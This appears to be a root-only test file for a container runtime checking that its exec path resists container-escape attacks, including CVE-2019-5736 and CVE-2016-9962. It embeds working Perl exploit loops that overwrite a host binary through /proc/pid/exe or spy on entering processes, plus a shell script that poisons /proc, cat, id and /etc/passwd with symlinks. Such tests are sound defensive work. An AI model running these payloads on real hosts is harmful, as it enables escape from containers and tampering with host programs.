import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { readFileSync, readlinkSync } from 'node:fs'
import path from 'node:path'
import { createInterface } from 'node:readline'
import { text } from 'node:stream/consumers'
import { promisify } from 'node:util'

import { sandboxCapabilities, type Container, type StartOptions } from '@box/runtime'
import fs from 'fs-extra'

import { secret } from '../support/canary.ts'
import { useHostileHost } from '../support/hostile-host.ts'
import { unsafe } from '../support/unsafe.ts'

const asRoot = process.geteuid?.() === 0 ? describe : describe.skip
const execute = promisify(execFile)
const hashOf = (file: string): string => createHash('sha256').update(readFileSync(file)).digest('hex')

/** Opens the program of every process that does not come from the container, and writes to it as soon as nobody runs it any more. */
const overwrite = `
  $| = 1; print "up\\n";
  while (1) {
    opendir my $proc, "/proc";
    for my $pid (grep { /^\\d/ } readdir $proc) {
      my $name = readlink "/proc/$pid/exe";
      next if !defined $name || -e $name || $done{$name}++;
      open my $held, "<", "/proc/$pid/exe" or next;
      print "opened $name\\n";
      for (1 .. 300) {
        if (open my $file, "+<", "/proc/self/fd/" . fileno $held) { syswrite $file, "overwritten"; print "overwrote $name\\n"; last }
        select undef, undef, undef, 0.01;
      }
    }
  }`

/** Prints every descriptor, root and working directory of another process that is no pipe and no file of the container. */
const look = `
  $| = 1; print "up\\n";
  while (1) {
    opendir my $proc, "/proc";
    for my $pid (grep { /^\\d/ && $_ != $$ } readdir $proc) {
      my @links = ("/proc/$pid/root", "/proc/$pid/cwd");
      if (opendir my $fds, "/proc/$pid/fd") { push @links, map { "/proc/$pid/fd/$_" } grep { /^\\d/ } readdir $fds }
      for my $target (grep { defined } map { readlink } @links) {
        print "saw $target\\n" unless $target =~ m{^(/|/dev/null|/tmp)$|^pipe:|^/usr/lib/} || $seen{$target}++;
      }
    }
  }`

asRoot('a container that lies in wait for whoever enters it', () => {
  const host = useHostileHost()

  /** Starts the attacker as process 1; `use` gets the lines that it prints. */
  const attacked = async (
    image: Parameters<typeof host.runtime.start>[0],
    program: string,
    options: StartOptions,
    use: (container: Container, lines: AsyncIterator<string>) => Promise<void>,
  ): Promise<void> => {
    const container = await host.runtime.start(image, ['perl', '-e', program], options)
    try {
      const lines = createInterface({ input: container.stdout })[Symbol.asyncIterator]()
      expect((await lines.next()).value).toBe('up')
      await use(container, lines)
    } finally {
      await container.close()
    }
  }
  const rest = async (lines: AsyncIterator<string>): Promise<string[]> => {
    const all: string[] = []
    for (let line = await lines.next(); line.done !== true; line = await lines.next()) all.push(line.value)
    return all
  }

  test('runc, crun, lxc CVE-2019-5736: a program that enters is overwritten where it can be, and ours cannot', async () => {
    const image = await host.image((folder) => fs.symlink('/proc/self/exe', path.join(folder, 'entry')))
    const joiner = path.join(host.folder, 'joiner')
    await fs.copyFile('/usr/bin/nsenter', joiner)
    const before = hashOf(joiner)
    await attacked(image, overwrite, unsafe, async (container, lines) => {
      const target = ['--target', String(container.pid), '--mount', '--pid']
      await execute(joiner, [...target, '/entry', '--pid=/proc/self/ns/pid', 'sleep', '0.3'])
      expect([(await lines.next()).value, (await lines.next()).value]).toEqual([`opened ${joiner}`, `overwrote ${joiner}`])
    })
    expect(hashOf(joiner)).not.toBe(before)

    const node = hashOf(process.execPath)
    for (const options of [unsafe, {}])
      await attacked(image, overwrite, options, async (container, lines) => {
        for (let round = 0; round < 50; round += 1) {
          const child = await container.exec(['/entry', '--version'], { timeout: 5_000 })
          const [stdout, stderr, { exitCode }] = await Promise.all([text(child.stdout), text(child.stderr), child.exited])
          expect({ stdout, stderr, exitCode }).toEqual({
            stdout: '',
            stderr: 'box: /proc/self/exe leads to no program of the container\n',
            exitCode: 126,
          })
        }
        expect(await (await container.exec(['sh', '-c', 'exit 3'])).exited).toMatchObject({ exitCode: 3 })
        container.kill('SIGKILL')
        expect((await rest(lines)).filter((line) => line.startsWith('overwrote'))).toEqual([])
      })
    expect(hashOf(process.execPath)).toBe(node)
  }, 60_000)

  test('runc CVE-2016-9962: what enters has nothing of the host that the container could take', async () => {
    const curious: StartOptions = { capabilities: [...sandboxCapabilities, 'CAP_SYS_PTRACE'], seccomp: { defaultAction: 'SCMP_ACT_ALLOW' } }
    // With the rights of the host's root over all processes it is seen that something enters.
    await attacked('base', look, unsafe, async (container, lines) => {
      const seen: string[] = []
      const line = lines.next().then(({ value }) => seen.push(value))
      for (let round = 0; round < 5_000 && seen.length === 0; round += 1) await (await container.exec(['true'])).exited
      await line
      expect(seen).toEqual([expect.stringMatching(/^saw /)])
    })
    await attacked('base', look, curious, async (container, lines) => {
      for (let round = 0; round < 300; round += 1) await (await container.exec(['true'], { cwd: '/tmp' })).exited
      container.kill('SIGKILL')
      expect(await rest(lines)).toEqual([])
    })
  }, 60_000)

  test('its /proc, its shell and its account files lead nowhere but inside', async () => {
    const spoil = `
      mkdir -p /fake/self/fd /fake/self/ns && ln -s ${host.canary}/secret /fake/self/status
      umount -l /proc; mount --bind /fake /proc && echo replaced
      rm /usr/bin/cat /usr/bin/id; ln -s /proc/self/fd/5/..${host.canary}/bin/program /usr/bin/cat
      ln -s ${host.canary}/bin/program /usr/bin/id
      rm -f /etc/passwd /etc/group; ln -s ${host.canary}/etc/passwd /etc/passwd; ln -s ${host.canary}/etc/group /etc/group
      echo done; exec sleep 60`
    const container = await host.runtime.start('base', ['sh', '-c', spoil], unsafe)
    try {
      const lines = createInterface({ input: container.stdout })[Symbol.asyncIterator]()
      expect([(await lines.next()).value, (await lines.next()).value]).toEqual(['replaced', 'done'])
      for (const program of ['cat', 'id'])
        await expect(container.exec([program, '/proc/self/status'])).rejects.toMatchObject({ syscall: 'execve', errno: 'ENOENT' })
      await expect(container.exec(['true'], { user: 'intruder' })).rejects.toMatchObject({ code: 'ERR_BOX_NOT_FOUND' })
      for (const cwd of ['/proc/self/fd/5', '/proc/1/root', host.canary])
        await expect(container.exec(['true'], { cwd })).rejects.toMatchObject({ step: 'change the directory' })
      const child = await container.exec([
        'sh',
        '-c',
        'echo ready; while read line; do echo "$line"; done < /proc/self/status; exec sleep 60',
      ])
      const seen = createInterface({ input: child.stdout })[Symbol.asyncIterator]()
      expect((await seen.next()).value).toBe('ready')
      const [own, first] = [child.pid, container.pid].map((pid) => readFileSync(`/proc/${pid}/status`, 'utf8').match(/^(Cap|NoNew).*$/gm))
      expect(own).toEqual(first)
      expect(readlinkSync(`/proc/${child.pid}/ns/mnt`)).toBe(readlinkSync(`/proc/${container.pid}/ns/mnt`))
      await child.close()
      expect(JSON.stringify(await rest(seen))).not.toContain(secret)
    } finally {
      await container.close()
    }
  })
})
